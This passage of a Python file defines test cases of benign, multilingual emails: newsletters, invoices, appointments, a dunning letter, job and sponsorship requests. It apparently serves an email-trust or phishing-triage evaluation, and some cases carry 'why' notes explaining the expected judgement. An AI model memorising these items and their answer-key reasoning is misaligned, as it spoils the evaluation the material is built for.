    everyday("en", RIVERTON, "weekly progress", THEY["learnhub"], to="s.banerjee", subject="Weekly progress 318", body="# This week at Riverton\n\n412 students finished a "
      "module. Three classes have overdue assignments.\n\n[Open dashboard](https://riverton.learnhub.example/dashboard)"),
    everyday("nl", MAASMOND, "slot van de terminal", THEY["terminal"], to="r.smit", subject="Slot 44812 bevestigd", body="MV AGLAIA\nSlot 44812 bevestigd: 13-06-2026 "
      "06:30\nKade 7, max. diepgang 11,2 m\nAnnuleren tot 12 uur voor aanvang."),
    everyday("en", MAASMOND, "the ship's managers ask for a proforma", THEY["helios"], to="r.smit", subject="MV Aglaia – next call, pls quote",
      body="Good day,\n\nPls send proforma D/A for abt 24 hrs alongside, discharging 9,000 mt. Funds will be remitted upon receipt. Also advise if shore pass needs passport "
      "copies in advance.\n\nB.rgds\nCapt. Rallis"),
    everyday("fr", CIGALES, "la lettre du métier", THEY["vitinews"], to="m.arnaud", subject="Gel, marchés, étiquetage : l'essentiel de la semaine",
             body="# L'essentiel de la semaine\n\nLe millésime 2025 se négocie à 4 % de moins en Asie. Dernier jour pour profiter de votre remise d'abonné !\n\n[Lire le "
             "numéro](https://www.vigne-marche.example/numero/318)\n\n[Renouveler](https://www.vigne-marche.example/abonnement)"),
    everyday("de", WESERLAND, "Ticket mit dem Namen einer Kollegin", THEY["hotline"].but(name="Marion Lutz via IT-Service Weserland"),
      why="The listed service writes with the name of whoever answered the ticket.",
             to="k.petersen", subject="[WL-48790] Drucker Station 4", body="Marion Lutz hat Ihr Ticket ergänzt:\n\n> Der Drucker braucht eine neue Trommel, Bestellung ist "
             "raus. Liefertermin Donnerstag.\n\n[Ticket ansehen](https://weserland.ticketwerk.example/t/48790)"),
    everyday("de", WESERLAND, "Abwesenheit", THEY["steriplan"].but(program="away", footer=""), to="m.lutz", subject="Automatische Antwort: Rechnung SP-4310",
      body="Guten Tag,\n\nich bin bis 19. Juni im Urlaub. In dringenden Fällen wenden Sie sich bitte an buchhaltung@steriplan.example oder 0571 555 010.\n\nAnja Reuter"),
    everyday("it", BELLANDI, "il notaio propone una data", THEY["notaio"], to="a.ferri", subject="Rogito Gualtieri", body="Gentile Avvocato,\n\nil rogito può fissarsi per "
      "il 24 giugno alle 10. Occorrono entro venerdì: documenti d'identità, codice fiscale e copia degli assegni circolari.\n\nCordialmente\nLa segreteria"),
    everyday("ca", VALLFOSCA, "butlletí de biblioteques", THEY["biblio"], to="n.puig", subject="Club de lectura: les propostes de l'estiu",
      body="# Propostes de l'estiu\n\nDotze títols per als clubs de lectura, amb guia gratuïta.\n\n[Descarrega la guia](https://www.bibliotequesenxarxa.example/guia-estiu)"),
    everyday("sv", TALLASEN, "fakturan från elnätet", THEY["elnat"], to="ekonomi", subject="Faktura 4317", body="Faktura 4317\nBelopp: 118 240,00 kr\nFörfaller: "
      "2026-06-30\nAutogiro: nej\nFakturan finns bifogad.", files=(File("faktura_4317.pdf", "pdf", "Tallnät AB\nFaktura 4317\n118 240,00 kr"),)),
    everyday("da", LYSBAKKEN, "udlejer varsler ny husleje", THEY["ejendom"], to="k.dahl", subject="Husleje pr. 1. juli", words={"account": grouped(PAYS["ejendom"])},
      body="Kære Kirsten\n\nHuslejen stiger efter nettoprisindekset til kr. 21.480 pr. måned. Kontoen er uændret {account}. Sig endelig til, hvis du vil se beregningen.\n\n"
      "Bo Ravn"),
    everyday("fi", KAARNA, "kääntäjä lähettää luvun", THEY["kaantaja"], to="o.lahti", subject="Re: Käännös", body="Moi Olli,\n\nluvut 9–12 liitteenä. Kysymys: jätetäänkö "
      "katujen nimet ruotsiksi? Lasku tulee kuun lopussa niin kuin ennenkin.\n\nSilja", files=(File("luvut_9-12.docx", "docx", "Luku 9\nTalvi tuli varhain."),)),
    everyday("en", KLONOWA, "invitation from a partner", THEY["berlin"], to="b.kos", subject="Sprint 42 review", body="Hi Bartek,\n\nmoving the review to Thursday 11:00, "
      "see invite. Please have the billing demo ready.\n\nJana",
             invitation="BEGIN:VCALENDAR\nVERSION:2.0\nMETHOD:REQUEST\nBEGIN:VEVENT\nUID:sprint42@fahrtwind\nDTSTART:20260618T090000Z\nDTEND:20260618T100000Z\n"
             "SUMMARY:Sprint 42 review\nORGANIZER:mailto:jana.scholz@fahrtwind-mobility.example\nATTENDEE:mailto:{to}\nEND:VEVENT\nEND:VCALENDAR\n"),
    everyday("sk", LIPA, "mesto a zmluva", THEY["mesto"], to="j.kovac", subject="Zmluva o nájme", body="Dobrý deň, pán riaditeľ,\n\nv prílohe je zmluva na podpis. Prosím "
      "vytlačiť dvakrát, podpísať a priniesť do pondelka na sekretariát.\n\nMária Hudecová", files=(File("zmluva.docx", "docx", "Zmluva o najme\nClanok I."),)),
    everyday("el", ELAIONAS, "ξένος αγοραστής γράφει από νέα υποδιεύθυνση", THEY["lidia"].but(address="l.conte@qualita.conte-alimentari.example",
      dkim=(("conte-alimentari.example", "pass"),)), why="A new subdomain, but signed by the partner's own domain, from the same servers, and nothing to lose.",
             to="g.manos", subject="Δείγματα σοδειάς", body="Αγαπητέ Γιώργο,\n\nτα δείγματα έφτασαν, η οξύτητα είναι 0,3. Από σήμερα γράφω από το τμήμα ποιότητας, το παλιό "
             "γραμματοκιβώτιο μένει ανοιχτό. Τα λέμε την Τρίτη.\n\nLidia"),
    everyday("ja", SHOFUSO, "酒店からの納品連絡", THEY["sakaya"], to="mori", subject="納品 4226", body="森様\n\nいつもお世話になっております。明日午前10時に純米吟醸12本をお届けします。先月分のご請求書も同封いたしますので、月末のお振込をお願いいたします。"
      "\n\n西川酒店"),
]

# ---- Honest first letters ----

UNKNOWN = [
    unknown("de", WESERLAND, "ein Inkassobüro", office("Inkasso Rautenberg", "forderungen@inkasso-rautenberg.example", "DE"), why="A plain dunning letter with creditor, "
      "number and an address for objections.",
            to="kreditoren", subject="Forderung Az. 26/44718 – Blumen Hagedorn", body="Sehr geehrte Damen und Herren,\n\nwir vertreten Blumen Hagedorn, Höxter. Die Rechnung "
            "2026-311 vom 12.03.2026 über 186,50 € ist trotz Mahnung offen. Bitte zahlen Sie an unsere Mandantin oder teilen Sie uns Ihre Einwände mit; Registrierungsnummer "
            "und Anschrift finden Sie unten.\n\n"
            "Mit freundlichen Grüßen\nInkasso Rautenberg GmbH\nLangestraße 9, 37671 Höxter, Tel. 05271 555 018"),
    unknown("nl", MAASMOND, "een leerlingenbedrijf", free("Studentbedrijf Golfslag", "golfslag.studentbedrijf@gmail.com"), to="ops", subject="Vraag over touwresten",
      body="Geachte heer, mevrouw,\n\nWij zijn vijf leerlingen van het havencollege en maken sleutelhangers van oud scheepstouw. Heeft u touwresten over, en wat zouden die "
      "kosten? Wij kunnen ze zelf op de fiets ophalen.\n\nMet vriendelijke groet,\nNoor, Sem, Yara, Daan en Lotte"),
    unknown("pl", KLONOWA, "kandydat do pracy", free("Kacper Dudek", "kacper.dudek.dev@gmail.com"), to="kadry", subject="Aplikacja na staż",
      body="Dzień dobry,\n\nw załączniku przesyłam CV na staż letni w zespole backendu. Piszę w Go i Pythonie, portfolio: https://kacperdudek.example\n\nZ poważaniem\n"
      "Kacper Dudek", files=(File("CV_Kacper_Dudek.pdf", "pdf", "Kacper Dudek\nStudent informatyki"),)),
    unknown("sv", TALLASEN, "en medborgare frågar", free("Göran Wiklund", "goran.wiklund47@gmail.com", "iphone"), to="kommun", subject="avgift för sophämtning",
      body="Hej! Jag har fått två räkningar på sophämtningen, vart ska jag betala och ska jag betala båda? Brådskar lite för den ena går ut på fredag.\nGöran Wiklund, "
      "Strandvägen 8"),
    unknown("it", BELLANDI, "una parrocchia", free("Parrocchia San Prospero", "parrocchia.sanprospero.mo@libero.it", "thunderbird"), to="segreteria", subject="Coro di giugno",
      body="Gentilissimi,\n\nil coro della parrocchia canta domenica 21 giugno alle 18 nella piazzetta sotto il vostro studio. Ci scusiamo per le prove di venerdì! Siete "
      "tutti invitati, ingresso libero, offerte per il tetto.\n\nDon Marco"),
    unknown("da", LYSBAKKEN, "en rekrutteringskonsulent", office365("Camilla Bang", "camilla@bang-search.example"), to="h.lund", subject="Fortrolig henvendelse",
      body="Kære Henrik\n\nJeg bistår en bestyrelse, der søger ny formand for en museumsfond. Jeg vil gerne høre, om du har lyst til en fortrolig snak over en kop kaffe. Du "
      "kan ringe på 31 55 01 20.\n\nVenlig hilsen\nCamilla Bang\nBang Search"),
    unknown("bg", RODOPI, "учителка пита за екскурзия", free("Десислава Тодорова", "d.todorova.klas5b@gmail.com"), to="office", subject="Екскурзия за 5 Б клас",
      body="Здравейте,\n\nбихме искали оферта за двудневна екскурзия до Смолян за 24 деца и двама учители през октомври. Какво капаро се плаща и докога?\n\nС уважение,\n"
      "Десислава Тодорова"),
    unknown("ar", NAKHLA, "مستأجرة تسأل عن العربون", free("ليلى عبد الرحمن", "laila.abdelrahman.dxb@gmail.com", "iphone"), to="n.farah", subject="شقة برج الواحة",
      body="السلام عليكم، أعجبتني الشقة رقم 1204. كم العربون المطلوب وهل أدفعه بشيك أم بتحويل؟ أستطيع المرور عليكم غداً مساءً لتوقيع العقد. شكراً، ليلى"),
    unknown("hu", BUZAVIRAG, "egy kézilabdacsapat szponzort keres", free("Tavaszy Réka", "tavaszy.reka.kezi@gmail.com"), to="iroda", subject="Utánpótláscsapat – támogatás",
      body="Tisztelt Pékség!\n\nLány utánpótláscsapatunk júliusban tornára utazik. Segítenének 40 zsemlével vagy bármilyen kis összeggel? Cserébe kitesszük a logójukat a "
      "mezre. Ha igen, hova küldhetjük a támogatói szerződést?\n\nTavaszy Réka edző"),
]

CASES = KNOWN + STRANGERS + EVERYDAY + UNKNOWN
